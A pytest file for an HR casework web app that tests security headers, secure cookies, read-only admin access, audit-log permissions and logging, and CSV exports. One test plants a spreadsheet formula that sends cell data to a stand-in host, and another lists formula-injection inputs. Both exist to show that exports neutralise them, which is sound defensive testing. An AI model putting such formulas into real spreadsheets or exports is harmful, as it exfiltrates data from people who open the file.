"""Headers and cookies, the administration site, and HR's audit log and exports."""

import csv
import io
import re

import pytest
from playwright.sync_api import expect

from casework import audit, demo
from casework.demo_cases import case_at, raise_concern
from casework.models import AuditEvent, Case, Status, User
from casework.spreadsheets import spreadsheet_safe
from tests.conftest import browser_sign_in, user
from tests.test_settings import PRODUCTION_ENV, manage

pytestmark = pytest.mark.django_db


def directives(response) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    return {
        part.split()[0]: part.split()[1:] for part in (p.strip() for p in policy.split(";")) if part
    }


def test_every_page_carries_a_content_security_policy_without_inline_script(sign_in):
    client = sign_in("Hannah", "Reid")
    for url in ["/", "/casework/cases/", "/workflow/inbox/", "/casework/oversight/audit/"]:
        response = client.get(url)
        assert response.status_code == 200, url
        policy = directives(response)
        assert policy["script-src"] == ["'self'"], url
        assert policy["object-src"] == ["'none'"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["base-uri"] == ["'none'"]
        assert policy["form-action"] == ["'self'"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["X-Frame-Options"] == "DENY"
        assert response["Referrer-Policy"] == "same-origin"
    sign_in_page = client.get("/accounts/login/")
    assert "'unsafe-inline'" not in directives(sign_in_page)["script-src"]


def test_production_cookies_are_secure_and_check_deploy_stays_clean(tmp_path):
    result = manage(
        "shell",
        "-v",
        "0",
        "-c",
        "from django.conf import settings as s; print(s.SESSION_COOKIE_SECURE, "
        "s.CSRF_COOKIE_SECURE, s.SESSION_COOKIE_HTTPONLY, s.SESSION_COOKIE_SAMESITE, "
        "s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS, s.CASEWORK_PROXY_COUNT)",
        env_overrides=PRODUCTION_ENV,
        tmp_path=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["True", "True", "True", "Lax", "True", "31536000", "1"]


# --- The administration site --------------------------------------------------------------


def superuser() -> User:
    return User.objects.get(email="admin@stclare.example")


def test_the_admin_is_for_superusers_only(client):
    client.force_login(user("Hannah", "Reid"))  # HR, but not a superuser
    response = client.get("/admin/casework/case/")
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_a_superuser_sees_cases_read_only_and_cannot_change_the_status(client, settings):
    settings.CASEWORK_ADMIN_CASE_DATA = True
    case = case_at(Status.TRIAGE)
    client.force_login(superuser())
    page = client.get(f"/admin/casework/case/{case.pk}/change/")
    assert page.status_code == 200
    content = page.content.decode()
    assert "Triage" in content
    assert 'name="status"' not in content
    assert 'name="_save"' not in content
    response = client.post(f"/admin/casework/case/{case.pk}/change/", {"status": Status.WITHDRAWN})
    assert response.status_code == 403
    case.refresh_from_db()
    assert case.status == Status.TRIAGE
    assert client.get("/admin/casework/case/add/").status_code == 403
    assert client.post(f"/admin/casework/case/{case.pk}/delete/", {"post": "yes"}).status_code == (
        403
    )
    assert Case.objects.filter(pk=case.pk).exists()
    viewed = AuditEvent.objects.filter(case=case, action="viewed.case").last()
    assert viewed.actor == superuser()
    assert viewed.details == {"via": "admin", "model": "casework.case"}


# --- The audit log ------------------------------------------------------------------------


def test_only_hr_may_read_the_audit_log_and_a_refusal_is_recorded(sign_in):
    for first, last in [("Helen", "Carter"), ("Catherine", "Walsh"), ("Tom", "Brennan")]:
        client = sign_in(first, last)
        assert client.get("/casework/oversight/audit/").status_code == 403
        assert client.get("/casework/oversight/audit/export.csv").status_code == 403
        assert client.get("/casework/oversight/cases/export.csv").status_code == 403
    refusals = AuditEvent.objects.filter(action="access.denied")
    assert refusals.count() == 9
    assert "Audit log" not in sign_in("Helen", "Carter").get("/").content.decode()
    assert "Audit log" in sign_in("Hannah", "Reid").get("/").content.decode()


def test_hr_filters_the_audit_log_and_reading_it_is_recorded(sign_in):
    first = case_at(Status.TRIAGE)
    second = case_at(Status.RECEIVED, subject=("Tom", "Brennan"), reporter=("Aisha", "Khan"))
    client = sign_in("Marcus", "Obi")
    page = client.get("/casework/oversight/audit/", {"reference": first.reference})
    content = page.content.decode()
    assert first.reference in content
    assert second.reference not in content
    assert "Hannah Reid" in content

    page = client.get(
        "/casework/oversight/audit/", {"actor": "Aisha", "action": "concern.raised"}
    ).content.decode()
    assert second.reference in page and first.reference not in page

    page = client.get("/casework/oversight/audit/", {"since": "2000-01-01", "until": "2000-01-02"})
    assert "No events match." in page.content.decode()

    page = client.get("/casework/oversight/audit/", {"since": "2000-01-02", "until": "2000-01-01"})
    assert "The end of the period must not be before its start." in page.content.decode()

    viewed = AuditEvent.objects.filter(action="viewed.audit_log").order_by("id")
    assert viewed.count() == 4
    assert viewed.first().details["filters"] == {"reference": first.reference}
    assert viewed.first().actor == user("Marcus", "Obi")


def test_the_audit_log_leaves_out_a_case_the_reader_is_too_close_to(sign_in):
    mine = raise_concern(subject=("Tom", "Brennan"), reporter=("Marcus", "Obi"))
    other = case_at(Status.TRIAGE)
    client = sign_in("Marcus", "Obi")
    client.get(f"/casework/cases/{mine.reference}/")  # refused: he raised it
    page = client.get("/casework/oversight/audit/").content.decode()
    assert other.reference in page
    assert mine.reference not in page
    assert (
        mine.reference
        in sign_in("Hannah", "Reid").get("/casework/oversight/audit/").content.decode()
    )


def test_csv_exports_neutralise_spreadsheet_formulas_and_are_recorded(sign_in):
    case = case_at(Status.TRIAGE)
    audit.record(
        action="test.formula",
        summary='=HYPERLINK("http://example.invalid/?"&A1,"Click")',
        actor=user("Hannah", "Reid"),
        case=case,
    )
    client = sign_in("Hannah", "Reid")
    response = client.get("/casework/oversight/audit/export.csv", {"action": "test.formula"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:5] == ["Event", "When", "Who", "From", "Action"]
    assert len(rows) == 2
    assert rows[1][5] == case.reference
    assert rows[1][7] == '\'=HYPERLINK("http://example.invalid/?"&A1,"Click")'

    register = client.get("/casework/oversight/cases/export.csv")
    lines = list(csv.reader(io.StringIO(b"".join(register.streaming_content).decode("utf-8-sig"))))
    assert [line[0] for line in lines[1:]] == [case.reference]
    assert lines[1][1] == "Daniel Shaw"

    exports = AuditEvent.objects.filter(action__startswith="exported.").order_by("id")
    assert [e.action for e in exports] == ["exported.audit_log", "exported.case_register"]
    assert exports[0].details == {"filters": {"action": "test.formula"}}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Case viewed", "Case viewed"),
        ("SM-2026-0001", "SM-2026-0001"),
        (None, ""),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


# --- In Chromium: the viewflow frontend works under the policy ----------------------------

VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (event) {
  window.__cspViolations.push(event.violatedDirective + " " + event.blockedURI);
});
"""


@pytest.mark.browser
def test_pages_and_forms_work_in_chromium_under_the_policy_with_no_violations(page):
    page.add_init_script(VIOLATIONS)
    console = []
    page.on("console", lambda message: console.append(message.text))
    browser_sign_in(page, "Aisha", "Khan")
    expect(page.get_by_role("heading", name="Welcome, Aisha")).to_be_visible()
    assert page.evaluate("window.__cspViolations") == []

    page.get_by_role("link", name="Report a concern").first.click()
    subject = page.get_by_label("Who is the concern about?")
    option = subject.locator("option", has_text=re.compile(r"^Tom Brennan")).get_attribute("value")
    subject.select_option(option)
    page.get_by_label("When was it posted or seen?").fill("2026-01-05")
    page.get_by_label("A personal account").check()
    page.get_by_label("What did you see?").fill("A post naming a pupil's family.")
    page.get_by_label("No pupils are involved").check()
    page.get_by_role("button", name="Send the concern").click()
    expect(page.get_by_text("SM-")).to_be_visible()
    assert page.evaluate("window.__cspViolations") == []

    page.goto("/casework/policy/")
    expect(page.get_by_text("DONT-4").first).to_be_visible()
    page.locator(".vf-page__menu-toggle").first.click()  # viewflow's own script still runs
    assert page.evaluate("window.__cspViolations") == []
    assert not [text for text in console if "Content Security Policy" in text]
    assert Case.objects.filter(reporter__email=demo.email_for("Aisha", "Khan")).count() == 1
